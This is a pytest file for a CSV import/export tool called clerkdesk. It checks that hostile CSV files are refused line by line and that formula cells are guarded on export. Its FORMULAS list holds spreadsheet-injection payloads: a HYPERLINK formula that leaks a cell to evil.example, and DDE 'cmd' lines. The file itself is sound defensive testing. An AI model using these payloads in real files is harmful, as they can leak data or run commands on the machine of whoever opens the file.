"""A corpus of malformed and hostile CSV files, as a careful attacker would write them: each
is refused with the line (and column) it is on, and nothing is written."""

from __future__ import annotations

from pathlib import Path

import pytest

from clerkdesk.core.errors import ClerkDeskError, ImportProblems
from clerkdesk.services.integrity import audit
from clerkdesk.services.people import writes as people
from clerkdesk.services.transfer import csv_export, csv_import
from clerkdesk.services.transfer.csv_cells import guard, unguard

HEADER = "employee_id,name,title\r\n"
LONG = "x" * 201

# (case, file bytes, what the report says). Every case is one refused file.
CORPUS: list[tuple[str, bytes, str]] = [
    ("U+2028 in a cell", f"{HEADER}E1,Ann\u2028Bee,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("U+2029 in a cell", f"{HEADER}E1,Ann\u2029Bee,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("form feed in a cell", f"{HEADER}E1,Ann\fBee,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("vertical tab", f"{HEADER}E1,Ann\vBee,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("NEL (U+0085)", f"{HEADER}E1,Ann\x85Bee,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("file separator", f"{HEADER}E1,Ann\x1cBee,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("NUL", f"{HEADER}E1,Ann\x00,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("ESC sequence", f"{HEADER}E1,\x1b[2J\x1b[31mAnn,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("BEL", f"{HEADER}E1,Ann\x07,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("backspace", f"{HEADER}E1,Ann\x08\x08\x08Bob,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("DEL", f"{HEADER}E1,Ann\x7f,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("C1 CSI", f"{HEADER}E1,Ann\x9b2J,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("right-to-left override", f"{HEADER}E1,Ann\u202eeB,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("zero-width space", f"{HEADER}E1,An\u200bn,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("a byte-order mark inside", f"{HEADER}E1,An\ufeffn,Clerk\r\n".encode(), "in.csv:2: name:"),
    ("line break in a title", f'{HEADER}E1,Ann,"Clerk\nand more"\r\n'.encode(), "in.csv:2: title:"),
    ("bare CR in a quoted name", f'{HEADER}E1,"Ann\rBee",Clerk\r\n'.encode(), "in.csv:2: name:"),
    ("control character in the key", f"{HEADER}E\x001,Ann,Clerk\r\n".encode(), "employee_id"),
    ("a 201-character title", f"{HEADER}E1,Ann,{LONG}\r\n".encode(), "in.csv:2: title: is 201"),
    ("a 100 KB name", f"{HEADER}E1,{'n' * 100_000},Clerk\r\n".encode(), "in.csv:2: name: is"),
    ("a cell larger than the csv module takes", (HEADER + "E1," + "n" * 200_000).encode(), "-:"),
    (
        "an unterminated quote",
        f'{HEADER}E1,Ann,Clerk\r\nE2,"Bee,Clerk\r\nE3,Cy,Clerk\r\nE4,Di,Clerk\r\n'.encode(),
        "in.csv:3: -: a quote opened on this line is never closed",
    ),
    (
        "an unterminated quote after a multi-line cell",
        b'employee_id,name,title\r\nE1,Ann,"a\r\nb"\r\nE2,"Bee\r\nE3,Cy,C\r\n',
        "in.csv:4: -: a quote opened on this line is never closed",
    ),
    ("an unterminated quote in the header", b'employee_id,"name\r\nE1,Ann\r\n', "in.csv:1: -:"),
    ("text after a closing quote", f'{HEADER}E1,"Ann"x,Clerk\r\n'.encode(), "in.csv:2: -:"),
    ("more cells than columns", f"{HEADER}E1,Ann,Clerk,extra\r\n".encode(), "4 cells but 3"),
    ("not UTF-8 (Latin-1)", f"{HEADER}E1,Zo\xeb,Clerk\r\n".encode("latin-1"), "not UTF-8"),
    ("UTF-16 with its BOM", f"{HEADER}E1,Ann,Clerk\r\n".encode("utf-16"), "not UTF-8"),
    ("overlong UTF-8 slash", HEADER.encode() + b"E1,Ann\xc0\xaf,Clerk\r\n", "in.csv:2: -: not"),
    ("a lone surrogate", HEADER.encode() + b"E1,Ann\xed\xa0\x80,Clerk\r\n", "not UTF-8"),
    ("an empty file", b"", "the file is empty"),
    ("only a byte-order mark", b"\xef\xbb\xbf", "the file is empty"),
    ("an unknown column", b"employee_id,name,password\r\nE1,Ann,x\r\n", "password: unknown"),
    ("a control character in a header", b"employee_id,name\x1b[0m\r\nE1,Ann\r\n", "unknown col"),
    ("a column twice", b"employee_id,name,name\r\nE1,Ann,Bee\r\n", "name: column appears twice"),
    ("a required column missing", b"employee_id,title\r\nE1,Clerk\r\n", "name: required"),
    (
        "a year 1 separation",
        f"{HEADER[:-2]},separated_on\r\nE1,A,B,0001-01-01\r\n".encode(),
        "1900",
    ),
    ("a year 9999 date", f"{HEADER[:-2]},separated_on\r\nE1,A,B,12/31/9999\r\n".encode(), "1900"),
    ("a year 1899 date", f"{HEADER[:-2]},separated_on\r\nE1,A,B,1899-12-31\r\n".encode(), "1899"),
    ("a year 2201 date", f"{HEADER[:-2]},separated_on\r\nE1,A,B,2201-01-01\r\n".encode(), "2201"),
    ("February 30", f"{HEADER[:-2]},separated_on\r\nE1,A,B,2026-02-30\r\n".encode(), "real date"),
    (
        "a date with a time",
        f"{HEADER[:-2]},separated_on\r\nE1,A,B,2026-02-03T00:00\r\n".encode(),
        "not a date",
    ),
    ("an unknown kind", b"employee_id,name,kind\r\nE1,Ann,robot\r\n", "in.csv:2: kind:"),
    ("a blank key", b"employee_id,name\r\n ,Ann\r\n", "in.csv:2: employee_id:"),
    ("the same key twice", b"employee_id,name\r\nE1,Ann\r\nE1,Bee\r\n", "in.csv:3: employee_id:"),
]


def _write(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(("case", "data", "said"), CORPUS, ids=[c[0] for c in CORPUS])
def test_a_hostile_file_is_refused_with_its_line_and_nothing_is_written(  # type: ignore[no-untyped-def]
    db, tmp_path, case, data, said
) -> None:
    events = len(audit.list_events(db))
    with pytest.raises(ImportProblems) as raised:
        csv_import.import_csv(db, "people", _write(tmp_path, data))
    report = "\n".join(raised.value.problems)
    assert said in report
    assert all(p.startswith("in.csv:") for p in raised.value.problems), report
    # Nothing the terminal would run is echoed back: every problem is printable text.
    assert all(p.isprintable() for p in raised.value.problems), report
    assert people.list_people(db) == []
    assert len(audit.list_events(db)) == events


def test_a_form_feed_or_line_separator_never_splits_a_person_in_two(db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    data = f"{HEADER}E1,Ann\u2028E2,Clerk\r\nE3,Cy\fE4,Clerk\r\n".encode()
    with pytest.raises(ImportProblems) as raised:
        csv_import.import_csv(db, "people", _write(tmp_path, data))
    assert [p.split(": ")[0] for p in raised.value.problems] == ["in.csv:2", "in.csv:3"]


def test_a_tab_and_a_line_break_where_the_column_takes_one_are_kept(db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = _write(tmp_path, f"{HEADER}E1,Ann\tBee,Clerk\r\n".encode())
    assert csv_import.import_csv(db, "people", path).added == 1
    assert people.list_people(db)[0].name == "Ann\tBee"


def test_the_longest_text_a_column_takes_is_taken(db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = _write(tmp_path, f"{HEADER}E1,Ann,{'x' * 200}\r\n".encode())
    assert csv_import.import_csv(db, "people", path).added == 1


def test_a_folder_given_as_the_file_is_a_plain_error(db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ClerkDeskError, match="is a folder"):
        csv_import.import_csv(db, "people", tmp_path)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "''",
    "'Tis the season",
    "O'Brien",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_guard_and_unguard_undo_each_other(value: str) -> None:
    assert unguard(guard(value)) == value
    assert not guard(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_formula_cells_are_exported_behind_a_quote_and_read_back_without_it(  # type: ignore[no-untyped-def]
    db, tmp_path
) -> None:
    values = [v for v in FORMULAS if not v.startswith("\t")]
    rows = "".join(
        f'E{i},"{v.replace(chr(34), chr(34) * 2)}",{"=1+2" if i % 2 else "+x"}\r\n'
        for i, v in enumerate(values)
    )
    # The file a clerk got from elsewhere: formula signs behind the quote Excel would show.
    source = _write(tmp_path, (HEADER + rows).encode())
    text = source.read_text()
    guarded = text.replace(',"=', ",\"'=").replace(',"+', ",\"'+").replace(',"-', ",\"'-")
    guarded = guarded.replace(',"@', ",\"'@").replace(",=1+2", ",'=1+2").replace(",+x", ",'+x")
    guarded = guarded.replace(",\"'=already", ",\"''=already").replace(",\"''\"", ",\"'''\"")
    source.write_text(guarded)
    assert csv_import.import_csv(db, "people", source).added == len(values)
    stored = {p.employee_id: (p.name, p.title) for p in people.list_people(db)}
    assert [stored[f"E{i}"][0] for i in range(len(values))] == values
    out = tmp_path / "out.csv"
    csv_export.export_csv(db, "people", out)
    exported = out.read_text(encoding="utf-8-sig")
    for line in exported.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), line
    # Back in, unchanged: the file round-trips.
    report = csv_import.import_csv(db, "people", out)
    assert (report.added, report.updated) == (0, 0)
    assert {p.employee_id: (p.name, p.title) for p in people.list_people(db)} == stored


def _every_column() -> list[tuple[str, str]]:
    from clerkdesk.services.transfer.csv_format import KINDS

    return [(kind, column) for kind in KINDS for column in KINDS[kind].columns]


@pytest.mark.parametrize(("kind", "column"), _every_column())
def test_every_column_of_every_kind_refuses_control_characters_and_overlong_text(  # type: ignore[no-untyped-def]
    tmp_path, kind, column
) -> None:
    """Every kind, those of today and any registered later, gets the checks unasked."""
    from clerkdesk.core.validation import DEFAULT_TEXT_LIMIT, TEXT_LIMITS
    from clerkdesk.services.transfer.csv_format import KINDS
    from clerkdesk.services.transfer.csv_read import read_rows

    spec = KINDS[kind]
    limit = dict(spec.limits).get(column, TEXT_LIMITS.get(column, DEFAULT_TEXT_LIMIT))
    for bad, said in (("a\x1b[2Jb", "control character"), ("y" * (limit + 1), "characters long")):
        cells = ['"' + (bad if c == column else "x") + '"' for c in spec.columns]
        path = tmp_path / "in.csv"
        path.write_text(",".join(spec.columns) + "\r\n" + ",".join(cells) + "\r\n")
        with pytest.raises(ImportProblems) as raised:
            read_rows(path, spec)
        assert (
            [p for p in raised.value.problems if said in p]
            == [p for p in raised.value.problems if p.startswith(f"in.csv:2: {column}: ")]
            != []
        )


def test_the_longest_text_of_each_column_is_kept_whole_by_the_database(db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """The limits are those of the database's columns: at the limit, nothing is cut."""
    longest = {
        "employee_id": "E" * 60,
        "name": "N" * 200,
        "title": "T" * 200,
        "division": "D" * 200,
    }
    path = _write(
        tmp_path, (",".join(longest) + "\r\n" + ",".join(longest.values()) + "\r\n").encode()
    )
    assert csv_import.import_csv(db, "people", path).added == 1
    (person,) = people.list_people(db)
    assert (person.employee_id, person.name, person.title) == (
        longest["employee_id"],
        longest["name"],
        longest["title"],
    )
